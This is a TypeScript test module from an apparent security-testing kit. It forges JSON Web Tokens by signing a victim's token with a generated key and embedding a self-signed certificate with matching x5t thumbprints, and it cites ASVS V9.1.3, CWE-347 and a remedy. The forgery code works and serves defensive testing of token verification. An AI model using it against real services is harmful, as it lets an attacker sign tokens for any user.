import { createHash, generateKeyPairSync } from 'node:crypto'
import { mint, readToken } from '../../kit/forge-token.ts'
import { selfSignedCertificate } from '../../kit/self-signed-certificate.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

export default tokenAttack({
  id: 'token/key-x5t-collide',
  rows: ['token.key-x5t-collide'],
  title: 'A token signed with the attacker’s own key, with its certificate and the thumbprint that fits it',
  requirement: 'ASVS V9.1.3: keys come from trusted sources only; a thumbprint names a key, it proves nothing',
  impact: 'A thumbprint that is compared with the token itself lets anyone sign tokens for any user.',
  remedy: 'Look the thumbprint up among the server’s own certificates, and verify with the one found there.',
  severity: 'medium',
  cwe: ['CWE-347'],
  references: ['ASVS V9.1.3', 'RFC 7515 section 4.1.7'],
  provenBy: 'x5t-lookup',
  plainer: ({ victim }) => [
    {
      attack: 'token/key-x5c-self-signed',
      name: 'the certificate without a thumbprint',
      token: signed(victim.token, []),
    },
  ],
  forge: ({ victim }) =>
    [['x5t'], ['x5t#S256'], ['x5t', 'x5t#S256']].map((names) => ({
      name: `x5c with a fitting ${names.join(' and ')}`,
      token: signed(victim.token, names),
      makes: () => `const { createHash } = await import('node:crypto')
const certificate = certificateOf(own)
const print = (hash) => createHash(hash).update(certificate).digest('base64url')
const prints = { ${names.map((name) => `'${name}': print('${name === 'x5t' ? 'sha1' : 'sha256'}')`).join(', ')} }
const head = { ...header(TOKEN_B), alg: 'RS256', x5c: [certificate.toString('base64')], ...prints }
const forged = join(part(head), part(claims(TOKEN_B)), signed(own.privateKey))`,
    })),
})

const pair = () => generateKeyPairSync('rsa', { modulusLength: 2_048 })
let own: ReturnType<typeof pair> | undefined

function signed(token: string, names: readonly string[]): string {
  own ??= pair()
  const certificate = selfSignedCertificate(own)
  const thumbprint = (hash: string) => createHash(hash).update(certificate).digest('base64url')
  const prints = names.map((name) => [name, thumbprint(name === 'x5t' ? 'sha1' : 'sha256')])
  const { header, payload } = readToken(token)
  const x5c = [certificate.toString('base64')]
  const privateKey = own.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
  return mint(
    { algorithm: 'RS256', privateKey },
    { ...header, alg: 'RS256', x5c, ...Object.fromEntries(prints) },
    payload,
  )
}
